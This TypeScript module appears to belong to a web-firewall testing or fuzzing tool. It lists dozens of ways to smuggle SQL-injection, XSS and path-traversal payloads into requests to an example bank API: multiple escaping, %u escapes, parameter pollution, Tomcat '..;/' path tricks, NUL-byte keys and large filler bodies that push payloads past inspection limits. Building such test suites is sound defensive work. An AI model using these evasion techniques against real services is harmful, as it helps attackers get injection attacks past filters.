import type { Draw } from '../draw.ts';
import { get, post, query } from '../message.ts';
import { HEAD_CHARS } from '../way.ts';
import { type Carrier, escaped, TEXT_CLASSES } from './carrier.ts';

const PATH = '/v1/accounts';
const coded = (text: string): string => escaped(Buffer.from(text));
const all = (text: string): string => Array.from(Buffer.from(text), (byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
const wideEscapes = (text: string): string =>
  text.replace(/[^A-Za-z0-9]/g, (sign) => `%u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`);

type Target = (text: string, field: string, draw: Draw) => string | null;

/** What a target looks like: name, servers, the target. */
const TARGETS: readonly (readonly [name: string, on: string, make: Target])[] = [
  ['query value', 'all', (t, f) => `${PATH}?limit=20&${f}=${coded(t)}`],
  ['query value, all escaped', 'all', (t, f) => `${PATH}?${f}=${all(t)}`],
  ['query value, plus for spaces', 'all', (t, f) => `${PATH}?${f}=${coded(t).replaceAll('%20', '+')}`],
  ['query value, %u escapes', 'IIS with classic ASP, WebLogic', (t, f) => `${PATH}?${f}=${wideEscapes(t)}`],
  ['query value, escaped twice', 'programs that decode again', (t, f) => `${PATH}?${f}=${encodeURIComponent(all(t))}`],
  [
    'query value, escaped three times',
    'programs that decode again',
    (t, f) => `${PATH}?${f}=${encodeURIComponent(encodeURIComponent(coded(t)))}`,
  ],
  ['query value after semicolons', 'Perl CGI, Python before 3.10, WEBrick', (t, f) => `${PATH}?limit=20;${f}=${coded(t)}`],
  ['query value after a bad escape', 'IIS, PHP, Go none', (t, f) => `${PATH}?a=%zz&${f}=100%25%${coded(t)}`],
  [
    'percent sign in each word',
    'IIS with classic ASP',
    (t, f) => (/[a-z]{4}/i.test(t) ? `${PATH}?${f}=${coded(t).replace(/([g-z])([g-z])/gi, '$1%$2')}` : null),
  ],
  ['query key', 'programs that use keys as columns', (t) => `${PATH}?${coded(t)}=1`],
  ['query without a key', 'CGI, programs that read it whole', (t) => `${PATH}?${coded(t)}`],
  ['query with an empty key', 'PHP none, Go, Express', (t) => `${PATH}?=${coded(t)}`],
  ['list key', 'PHP, Express, Rails', (t, f) => `${PATH}?${f}[]=${coded(t)}`],
  ['nested key', 'PHP, Express, Rails', (t, f) => `${PATH}?${f}[a][0][b]=${coded(t)}`],
  ['payload in brackets', 'PHP, Express, Rails', (t, f) => `${PATH}?${f}[${coded(t)}]=1`],
  ['escaped brackets', 'PHP, Express, Rails', (t, f) => `${PATH}?${f}%5B0%5D=${coded(t)}`],
  ['escaped key', 'all', (t, f) => `${PATH}?${all(f)}=${coded(t)}`],
  ['key after a space', 'PHP', (t, f) => `${PATH}?%20${f}=${coded(t)}`],
  ['key with a NUL after', 'PHP', (t, f) => `${PATH}?${f}%00x=${coded(t)}`],
  ['honest value first', 'PHP, Rails, and lists', (t, f) => `${PATH}?${f}=rent&${f}=${coded(t)}`],
  ['honest value last', 'Spring, Go, Flask', (t, f) => `${PATH}?${f}=${coded(t)}&${f}=rent`],
  ['two question marks', 'all', (t, f) => `${PATH}??a=1&${f}=${coded(t)}`],
  ['question mark in a value', 'all', (t, f) => `${PATH}?a=1?${f}=${coded(t)}`],
  ['empty pairs before', 'all', (t, f) => `${PATH}?&&&&=&${f}=${coded(t)}&&`],
  ['fragment', 'proxies that pass it on', (t, f) => `${PATH}#?${f}=${coded(t)}`],
  ['absolute target', 'all', (t, f) => `https://api.bank.example${PATH}?${f}=${coded(t)}`],
  ['path segment', 'all', (t) => `${PATH}/${coded(t)}/balance`],
  ['path segment escaped twice', 'programs that decode again', (t) => `${PATH}/${encodeURIComponent(all(t))}`],
  ['matrix parameter', 'Tomcat, Jetty, JAX-RS', (t, f) => `${PATH};${f}=${coded(t)}/balance`],
  ['matrix parameter inside', 'JAX-RS, Spring', (t, f) => `/v1;a=1;${f}=${coded(t)};b=2/accounts`],
  ['path after a script', 'PHP, CGI', (t) => `/index.php/${coded(t)}`],
  ['path after a jump', 'Tomcat', (t) => `/v1/x/..;/accounts/${coded(t)}`],
  ['last segment with an extension', 'Spring, Rails', (t) => `${PATH}/${coded(t)}.json`],
  ['JSON in a query value', 'programs that read it', (t, f) => `${PATH}?filter=${coded(JSON.stringify({ [f]: t }))}`],
  ['JSON as query', 'programs that read it', (t, f) => `${PATH}?${coded(JSON.stringify({ [f]: t }))}`],
  ['OData filter', 'OData', (t, f) => `${PATH}?$filter=${f}%20eq%20'${coded(t.replaceAll("'", "''"))}'`],
  ['base64 value', 'programs that decode it', (t, f) => `${PATH}?${f}=${coded(Buffer.from(t).toString('base64'))}`],
  [
    'base64url value without its end',
    'programs that decode it',
    (t, f) => `${PATH}?cursor=${Buffer.from(JSON.stringify({ [f]: t })).toString('base64url')}`,
  ],
  ['address in an address', 'programs that call it', (t, f) => `${PATH}?next=${coded(`https://bank.example/a?${f}=${coded(t)}`)}`],
  ['1,000 pairs before', 'all but PHP', (t, f) => `${PATH}?${'a=1&'.repeat(1_000)}${f}=${coded(t)}`],
  ['long value before', 'all', (t, f) => `${PATH}?a=${'x'.repeat(3_000)}&${f}=${coded(t)}`],
  ['control characters around', 'programs that trim', (t, f) => `${PATH}?${f}=%09%0b%0c${coded(t)}%00`],
  ['no-break spaces before', 'programs that trim', (t, f) => `${PATH}?${f}=%c2%a0%e2%80%8b${coded(t)}`],
];

/** Ways no program takes a whole address from. */
const KEYS = new Set(['query key', 'query without a key', 'query with an empty key', 'payload in brackets', 'OData filter']);
/** What pages of classic ASP are open to. */
const PAGES = ['sqli', 'xss', 'path-traversal'];

const fill = (draw: Draw, length: number): Readonly<Record<string, string>> => ({
  spaces: ' '.repeat(length),
  'line ends': '\n'.repeat(length),
  letters: 'a'.repeat(length),
  digits: '7'.repeat(length),
  words: `${draw.words(30)} `.repeat(Math.ceil(length / 150)).slice(0, length),
  'JSON brackets': '[]'.repeat(length / 2),
  'percent signs': '%'.repeat(length),
  quotes: '""'.repeat(length / 2),
});

const FORM_TYPE = 'application/x-www-form-urlencoded';

/** Filler stands before in its own field, or before and after in the same one (where the exploit starts by itself). */
const PADDED: readonly Carrier[] = [8_000, 64_000, 200_000].flatMap((length) =>
  Object.keys(fill({ words: () => '' } as unknown as Draw, 2)).map(
    (filler): Carrier => ({
      name: `form: ${length / 1_000} KB of ${filler} before`,
      on: 'all that take bodies of this size',
      carry: (text, draw, field) => post(PATH, FORM_TYPE, `a=${encodeURIComponent(fill(draw, length)[filler]!)}&${field}=${coded(text)}`),
    }),
  ),
);

const form = (
  name: string,
  on: string,
  make: (text: string, field: string, draw: Draw) => string,
  type: string | null = FORM_TYPE,
): Carrier => ({
  name: `form: ${name}`,
  on,
  carry: (text, draw, field) => post(PATH, type, make(text, field, draw)),
});

export const QUERY_WAYS: readonly Carrier[] = [
  ...TARGETS.map(
    ([name, on, make]): Carrier => ({
      name,
      on,
      charsMax: HEAD_CHARS / 4,
      ...(KEYS.has(name) ? { classes: TEXT_CLASSES } : name === 'percent sign in each word' ? { classes: PAGES } : {}),
      carry: (text, draw, field) => {
        const target = make(text, field, draw);
        return target === null ? null : get(target);
      },
    }),
  ),
  ...PADDED,
  form('plain', 'all', (t, f) => `amount=12&${f}=${coded(t)}`),
  form('type in capitals', 'all', (t, f) => `amount=12&${f}=${coded(t)}`, 'Application/X-WWW-Form-Urlencoded'),
  form('text/plain', 'programs that read it all the same', (t, f) => `amount=12&${f}=${coded(t)}`, 'text/plain'),
  form('no type', 'programs that read it all the same', (t, f) => `amount=12&${f}=${coded(t)}`, null),
  form('charset twice', 'all', (t, f) => `amount=12&${f}=${coded(t)}`, `${FORM_TYPE};charset=utf-8;charset=x`),
  form('unescaped', 'all', (t, f) => `${f}=${t.replace(/[%&+#;]/g, encodeURIComponent)}`),
  form('%u escapes', 'IIS with classic ASP', (t, f) => `${f}=${wideEscapes(t)}`),
  form('900 pairs before', 'all', (t, f) => `${'b=2&'.repeat(900)}${f}=${coded(t)}`),
  form('5,000 pairs before', 'all but PHP', (t, f) => `${'b=2&'.repeat(5_000)}${f}=${coded(t)}`),
  form('key of 20 deep', 'PHP, Express, Rails', (t, f) => `${f}${'[a]'.repeat(20)}=${coded(t)}`),
  { ...form('the text as key', 'programs that use keys as columns', (t) => `${coded(t)}=1`), classes: TEXT_CLASSES },
  form('JSON in a field', 'programs that read it', (t, f) => query({ payload: JSON.stringify({ [f]: t }) })),
  form('line ends between pairs', 'PHP none, Express', (t, f) => `amount=12\r\n&${f}=${coded(t)}\r\n`),
];
